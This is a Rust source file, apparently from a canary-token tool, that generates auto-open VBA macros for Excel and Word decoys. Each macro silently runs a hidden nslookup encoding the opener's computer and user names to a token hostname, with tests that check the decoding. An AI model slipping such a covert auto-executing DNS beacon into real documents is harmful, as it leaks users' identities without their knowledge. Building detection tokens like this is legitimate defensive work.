//! The VBA the macro document kinds (msexcel-macro, msword-macro) embed: on open it looks up
//! `c<computer>.UN.u<user>.CMD.<invocation id>.<token hostname>`, the encoding the
//! sensitive-cmd kind's DNS decoder reads (`crate::kinds::sensitive_cmd`), so the DNS listener
//! already stores the computer and user, and a repeat of one open (resolver retries, the A and
//! AAAA queries of one lookup) carries the same invocation id and is not a new alert.
//!
//! The document module's open event (`Workbook_Open`, `Document_Open`) and the standard
//! module's auto-macro (`Auto_Open`, `AutoOpen`) both call one procedure, which runs once per
//! session (a module flag), so an open that fires both looks the name up once:
//! - the computer name is `Environ("COMPUTERNAME")`, else `Environ("HOSTNAME")` (off Windows),
//!   the user `Environ("USERNAME")`, else `Environ("USER")`; both keep only `[A-Za-z0-9-]` and
//!   become `unknown` when nothing is left (an empty label would make the lookup undecodable
//!   and lose the alert);
//! - each label (with its `c`/`u` prefix) is cut to 63 characters, or fewer when the token
//!   hostname is long, so the whole name stays within DNS's 253;
//! - the invocation id is eight characters of `[a-z0-9]` drawn with `Randomize`/`Rnd` when the
//!   macro runs, so each open has its own;
//! - `Shell "nslookup " & name, 0` (hidden window) under `On Error Resume Next`, so nothing is
//!   shown if it fails. The name ends with a dot, so Windows' nslookup does not first try it
//!   with the machine's DNS suffixes appended.

use super::vba::{Host, Module, ModuleKind, Project};

/// The standard module's name (Office's default for the first one).
pub const STANDARD_MODULE: &str = "Module1";
/// The procedure both open macros call.
pub const PROCEDURE: &str = "ApplyRegionalFormats";
/// The longest DNS name the lookup may have (without the final dot).
const MAX_NAME: usize = 253;
/// Characters of the name besides the two variable labels and the hostname:
/// `.UN.`, `.CMD.`, the 8-character id and the dots around it.
const FIXED: usize = ".UN.".len() + ".CMD.".len() + 8 + ".".len();

/// The token hostname cannot carry the lookup.
#[derive(Debug, thiserror::Error)]
#[error("{0:?} is not a DNS hostname short enough to carry the computer and user names")]
pub struct HostnameError(pub String);

/// The auto-exec procedures of `host`: the document module's open event and the standard
/// module's auto-macro.
pub fn open_procedures(host: Host) -> (&'static str, &'static str) {
    match host {
        Host::Excel => ("Workbook_Open", "Auto_Open"),
        Host::Word => ("Document_Open", "AutoOpen"),
    }
}

/// The project whose open macros look up the name under `hostname` (the token's hostname).
pub fn open_macro_project(host: Host, hostname: &str) -> Result<Project, HostnameError> {
    let label = label_budget(hostname).ok_or_else(|| HostnameError(hostname.to_string()))?;
    let (event, auto) = open_procedures(host);
    let document = format!("Option Explicit\n\nSub {event}()\n    {PROCEDURE}\nEnd Sub\n");
    let standard = format!(
        r#"Option Explicit

Private Started As Boolean

Sub {auto}()
    {PROCEDURE}
End Sub

Sub {PROCEDURE}()
    On Error Resume Next
    If Started Then Exit Sub
    Started = True
    Dim c As String, u As String, i As String, k As Integer
    c = Environ("COMPUTERNAME")
    If c = "" Then c = Environ("HOSTNAME")
    u = Environ("USERNAME")
    If u = "" Then u = Environ("USER")
    Randomize
    For k = 1 To 8
        i = i & Mid("abcdefghijklmnopqrstuvwxyz0123456789", Int(Rnd * 36) + 1, 1)
    Next k
    Shell "nslookup " & NameLabel("c", c) & ".UN." & NameLabel("u", u) & ".CMD." & i & ".{hostname}.", 0
End Sub

Private Function NameLabel(p As String, s As String) As String
    Dim k As Integer, a As Long, t As String
    For k = 1 To Len(s)
        a = Asc(Mid(s, k, 1))
        If (a >= 48 And a <= 57) Or (a >= 65 And a <= 90) Or (a >= 97 And a <= 122) Or a = 45 Then t = t & Chr(a)
    Next k
    If t = "" Then t = "unknown"
    NameLabel = Left(p & t, {label})
End Function
"#
    );
    Ok(Project {
        host,
        modules: vec![
            Module { name: host.document_module().into(), kind: ModuleKind::Document, code: document },
            Module { name: STANDARD_MODULE.into(), kind: ModuleKind::Standard, code: standard },
        ],
    })
}

/// The longest the computer and user labels may be under `hostname` (at most 63, at least
/// 8), or `None` if `hostname` is not a plain DNS name or leaves less room than that.
fn label_budget(hostname: &str) -> Option<usize> {
    let plain = hostname
        .split('.')
        .all(|l| !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'));
    if !plain {
        return None;
    }
    let room = MAX_NAME.checked_sub(FIXED + hostname.len())? / 2;
    (room >= 8).then_some(room.min(63))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kinds::{decode_dns_labels, DnsData};

    fn code(p: &Project, name: &str) -> String {
        p.modules.iter().find(|m| m.name == name).unwrap().code.clone()
    }

    /// The VBA `NameLabel` and the rest of the name, evaluated in Rust the way VBA does.
    fn lookup_name(computer: &str, user: &str, id: &str, hostname: &str, label: usize) -> String {
        let clean = |p: &str, s: &str| {
            let t: String = s.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').collect();
            let t = if t.is_empty() { "unknown".to_string() } else { t };
            format!("{p}{t}").chars().take(label).collect::<String>()
        };
        format!("{}.UN.{}.CMD.{id}.{hostname}.", clean("c", computer), clean("u", user))
    }

    #[test]
    fn excel_and_word_open_macros_call_the_lookup_once() {
        for (host, event, auto) in
            [(Host::Excel, "Workbook_Open", "Auto_Open"), (Host::Word, "Document_Open", "AutoOpen")]
        {
            let p = open_macro_project(host, "abc123.trapline.example").unwrap();
            assert_eq!(p.host, host);
            assert_eq!(p.modules.len(), 2);
            assert_eq!(p.modules[0].kind, ModuleKind::Document);
            assert_eq!(p.modules[0].name, host.document_module());
            assert_eq!(
                code(&p, host.document_module()),
                format!("Option Explicit\n\nSub {event}()\n    {PROCEDURE}\nEnd Sub\n")
            );
            let standard = code(&p, STANDARD_MODULE);
            assert!(standard.contains(&format!("\nSub {auto}()\n    {PROCEDURE}\nEnd Sub\n")), "{standard}");
            assert!(standard.contains("    On Error Resume Next\n    If Started Then Exit Sub\n    Started = True\n"));
            assert!(standard.contains("\nPrivate Started As Boolean\n"));
            // Both build into a project.
            crate::artefacts::vba::build(&p).unwrap();
        }
    }

    #[test]
    fn the_lookup_is_the_sensitive_cmd_encoding() {
        let p = open_macro_project(Host::Excel, "abc123.trapline.example").unwrap();
        let standard = code(&p, STANDARD_MODULE);
        let expected = [
            r#"    c = Environ("COMPUTERNAME")"#,
            r#"    If c = "" Then c = Environ("HOSTNAME")"#,
            r#"    u = Environ("USERNAME")"#,
            r#"    If u = "" Then u = Environ("USER")"#,
            "    Randomize",
            r#"        i = i & Mid("abcdefghijklmnopqrstuvwxyz0123456789", Int(Rnd * 36) + 1, 1)"#,
            r#"    Shell "nslookup " & NameLabel("c", c) & ".UN." & NameLabel("u", u) & ".CMD." & i & ".abc123.trapline.example.", 0"#,
            "        If (a >= 48 And a <= 57) Or (a >= 65 And a <= 90) Or (a >= 97 And a <= 122) Or a = 45 Then t = t & Chr(a)",
            r#"    If t = "" Then t = "unknown""#,
            "    NameLabel = Left(p & t, 63)",
        ];
        for line in expected {
            assert!(standard.lines().any(|l| l == line), "missing {line:?} in\n{standard}");
        }

        // What the macro looks up, as sensitive-cmd's decoder (through the registry) reads it.
        let name = lookup_name("WS-042$", "alice.smith", "k3j9x0qa", "abc123.trapline.example", 63);
        assert_eq!(name, "cWS-042.UN.ualicesmith.CMD.k3j9x0qa.abc123.trapline.example.");
        let labels: Vec<String> = name.split('.').take(5).map(str::to_string).collect();
        let DnsData::Decoded(m) = decode_dns_labels(&labels) else { panic!("{labels:?}") };
        assert_eq!(m["sensitive_cmd_computer"], "WS-042");
        assert_eq!(m["sensitive_cmd_user"], "alicesmith");
        assert_eq!(m["sensitive_cmd_invocation_id"], "k3j9x0qa");
        // Names that clean to nothing still decode (as "unknown").
        let name = lookup_name("", "@@", "aaaa1111", "t.example", 63);
        let labels: Vec<String> = name.split('.').take(5).map(str::to_string).collect();
        let DnsData::Decoded(m) = decode_dns_labels(&labels) else { panic!("{labels:?}") };
        assert_eq!(
            (m["sensitive_cmd_computer"].as_str(), m["sensitive_cmd_user"].as_str()),
            (Some("unknown"), Some("unknown"))
        );
    }

    #[test]
    fn labels_shrink_to_keep_the_name_within_253() {
        assert_eq!(label_budget("abc.trapline.example"), Some(63));
        let long = format!("{}.{}.{}.example", "a".repeat(63), "b".repeat(63), "c".repeat(20));
        let label = label_budget(&long).unwrap();
        assert!(label < 63);
        let name = lookup_name(&"X".repeat(100), &"Y".repeat(100), "abcd1234", &long, label);
        // Without its final dot the name fills 252 or 253 characters.
        let full = name.trim_end_matches('.').len();
        assert!((252..=253).contains(&full), "{full}");
        let p = open_macro_project(Host::Word, &long).unwrap();
        assert!(code(&p, STANDARD_MODULE).contains(&format!("NameLabel = Left(p & t, {label})")));
        for bad in ["", "a..b", "a b.example", "x\".example", "a_b.example", &"a".repeat(64), &format!("{long}.{long}")]
        {
            assert!(open_macro_project(Host::Excel, bad).is_err(), "{bad}");
        }
    }
}
